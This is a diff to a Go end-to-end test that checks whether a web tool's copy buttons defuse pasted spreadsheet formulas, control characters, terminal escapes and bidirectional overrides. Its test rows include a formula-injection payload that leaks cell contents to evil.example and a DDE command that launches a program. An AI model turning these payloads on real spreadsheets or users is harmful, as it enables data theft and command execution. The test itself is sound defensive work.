@@ -2,6 +2,7 @@ package e2e
 
 import (
 	"encoding/base64"
+	"encoding/json"
 	"os"
 	"path/filepath"
 	"strings"
@@ -37,6 +38,40 @@ func TestCopy(t *testing.T) {
 			}
 		})
 	}
+}
+
+// TestCopyHarmless copies what was made to do something where it is pasted. It
+// is copied as it is shown, and no spreadsheet takes it for a formula, unless
+// the button says that it is exact.
+func TestCopyHarmless(t *testing.T) {
+	t.Parallel()
+	a := open(t)
+	for _, row := range []struct{ kid, copied string }{
+		{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
+		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
+		{`-2+3`, `'-2+3`},
+		{`@SUM(1)`, `'@SUM(1)`},
+		{` =1+1`, `' =1+1`},
+		{"\t=1+1\r=2", `‹U+0009›=1+1‹U+000D›=2`},
+		{"a\n=1+1", `a‹U+000A›=1+1`},
+		{"\x1b]0;x\x07\x1b[2J", `‹U+001B›]0;x‹U+0007›‹U+001B›[2J`},
+		{"\u202enimda\u200b", `‹U+202E›nimda‹U+200B›`},
+		{`-Rj9_2hI3pvt`, `-Rj9_2hI3pvt`}, // a thumbprint may begin so
+		{`plain, and "quoted"`, `plain, and "quoted"`},
+	} {
+		t.Run(row.copied, func(t *testing.T) {
+			a := airlock{a.in(t)}
+			key := must[[]byte](t)(json.Marshal(map[string]string{"kty": "oct", "k": "c2VjcmV0", "kid": row.kid}))
+			a.set("#keys", js(`%s`, string(key)))
+			a.look("members")
+			a.copies("#keys-notes .key dl button", row.copied)
+		})
+	}
+	exact := "=1+1\n\u202e\x1b[2J"
+	a.set("#token", js(`%s`, segments(`{"alg":"HS256"}`, exact, "signature")))
+	a.look("text")
+	a.copies("#payload .copy", exact)
+	a.wait("the button to speak of itself again", `/^Copy exact text/.test(document.querySelector("#payload .copy").innerText)`)
 }
 
 // copies presses a button and fails the test unless the clipboard then holds
